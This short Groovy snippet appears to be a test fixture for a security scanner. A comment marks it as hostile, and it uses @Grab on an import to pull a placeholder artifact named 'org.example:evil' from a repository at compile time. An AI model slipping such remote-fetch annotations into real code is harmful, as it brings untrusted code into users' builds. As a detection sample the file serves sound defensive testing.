// hostile: @Grab on an import
@Grab("org.example:evil:1.0")
import java.lang.String
